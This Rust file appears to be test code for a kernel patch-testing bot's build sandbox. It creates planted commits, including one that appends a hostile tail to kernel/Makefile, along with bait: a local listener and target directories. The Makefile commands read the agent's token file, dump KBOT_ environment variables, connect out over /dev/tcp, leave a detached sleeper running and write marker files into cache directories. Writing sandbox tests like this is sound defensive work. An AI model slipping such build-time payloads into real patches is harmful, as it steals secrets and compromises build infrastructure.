//! What the scenario posts: the commits of its series, made by the author
//! from the planted commits, and the bait its hostile build reaches for.

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use super::{Bait, Commits, PAT};
use crate::author::{Author, Commit, NOBODY};
use crate::lab::KernelRepo;

impl Commits {
    pub(super) fn make(author: &Author, linux: &KernelRepo, hostile: &str) -> Commits {
        let h0 = linux.commit("h0").to_owned();
        let on = |parent: &str, change: &str, message: &str, who: (&str, &str)| {
            author.on(
                linux.commit(change),
                Commit {
                    parent,
                    message,
                    author: who,
                    date: None,
                },
            )
        };
        let plain = |parent| Commit {
            parent,
            message: "",
            author: NOBODY,
            date: None,
        };
        let v1_1 = on(
            &h0,
            "doc1",
            "Documentation: a note on the development process",
            NOBODY,
        );
        let slow = "fs/pipe: zero scratch pages under pipe->mutex in pipe_write()";
        let v1_2 = on(&v1_1, "slow", slow, PAT);
        let v1_tip = on(
            &v1_2,
            "doc4",
            "Documentation: a note on the kernel API",
            NOBODY,
        );
        // Its preimage (doc2's change) is in no tree the server has: git am
        // -3 cannot fall back to a three-way merge.
        let hidden = on(
            &h0,
            "doc2",
            "Documentation: a note on the admin guide",
            NOBODY,
        );
        let noapply = author.edited(
            &hidden,
            "Documentation/admin-guide/index.rst",
            |text| {
                text.replacen(
                    "a note on the admin guide (harmless)",
                    "a better note on the admin guide (harmless)",
                    1,
                )
            },
            Commit {
                message: "Documentation: a better note on the admin guide",
                ..plain(&hidden)
            },
        );
        let helper = "kernel/sys: add kbot_e2e_helper()";
        let broken = on(&v1_1, "break", helper, NOBODY);
        let broken = author.edited(
            &broken,
            "kernel/Makefile",
            |text| format!("{text}{hostile}"),
            Commit {
                message: helper,
                ..plain(&v1_1)
            },
        );
        let comment = "fs/pipe: a comment at the end of the file";
        let v2_2 = on(&v1_1, "comment", comment, PAT);
        let v2_tip = on(
            &v2_2,
            "doc4",
            "Documentation: a note on the kernel API",
            NOBODY,
        );
        Commits {
            h0,
            v1_tip,
            hidden,
            noapply,
            broken,
            v2_tip,
        }
    }
}

impl Bait {
    /// A listener that records connections, a sleeper's name, and the
    /// directories a build must not write into.
    pub(super) fn set(agent_dir: &Path, ccache_dir: &Path) -> Bait {
        let listener = TcpListener::bind("127.0.0.1:0").expect("listener");
        let listener_port = listener.local_addr().expect("addr").port();
        let connections = Arc::new(Mutex::new(Vec::new()));
        let seen = Arc::clone(&connections);
        std::thread::spawn(move || {
            for conn in listener.incoming().flatten() {
                let from = conn.peer_addr().map(|a| a.to_string()).unwrap_or_default();
                seen.lock().expect("lock").push(from);
            }
        });
        let mut targets = Vec::new();
        for root in [agent_dir, ccache_dir] {
            targets.push(root.to_path_buf());
            for child in subdirs(root) {
                targets.extend(subdirs(&child));
                targets.push(child);
            }
        }
        // Not inside the agent's git mirrors (the directory itself is bait).
        targets.retain(|t| {
            !t.parent()
                .is_some_and(|p| p.components().any(|c| c.as_os_str() == "mirrors"))
        });
        Bait {
            listener_port,
            connections,
            sleeper: 7_391_000 + rand::random::<u32>() % 1000,
            targets,
        }
    }
}

pub(super) fn subdirs(dir: &Path) -> Vec<PathBuf> {
    std::fs::read_dir(dir)
        .map(|entries| {
            entries
                .flatten()
                .map(|e| e.path())
                .filter(|p| p.is_dir())
                .collect()
        })
        .unwrap_or_default()
}

/// A kernel/Makefile tail that runs, while the build parses it, what a
/// stranger's patch would try. Each attempt prints a line shaped as a
/// compiler error, so whatever it reaches is quoted in the answer: its uid,
/// the agent's token file, the `KBOT_` environment; a TCP connection to the
/// test's listener; a setsid sleeper; a file written into the agent's other
/// directories (its object directories, build cache, ccache, spool).
pub(super) fn hostile_makefile(agent_dir: &Path, bait: &Bait) -> String {
    let err = |n: u32| format!("kernel/kbot_hostile.c:{n}:1: error: hostile");
    let targets: String = bait
        .targets
        .iter()
        .map(|t| format!("{} ", t.display()))
        .collect();
    let commands = [
        format!("echo \"{} uid $$(id -u)\"", err(1)),
        format!(
            "echo \"{} agent.json: $$(head -c 300 {}/agent.json 2>&1)\"",
            err(2),
            agent_dir.display()
        ),
        format!(
            "echo \"{} env: $$(env | grep ^KBOT_ | paste -sd,)\"",
            err(3)
        ),
        format!(
            "(echo kbot-hostile >/dev/tcp/127.0.0.1/{}) 2>/dev/null && echo \"{} connected\"",
            bait.listener_port,
            err(4)
        ),
        format!(
            "(setsid sleep {} </dev/null >/dev/null 2>&1 &)",
            bait.sleeper
        ),
        format!(
            "for t in {targets}; do echo hostile >>$$t/kbot-hostile-was-here 2>/dev/null \
             && echo \"{} wrote $$t\"; done",
            err(5)
        ),
    ];
    let script: String = commands.iter().map(|c| format!("{c}; ")).collect();
    format!("\nkbot-hostile := $(shell bash -c '{script}' 1>&2)\n")
}
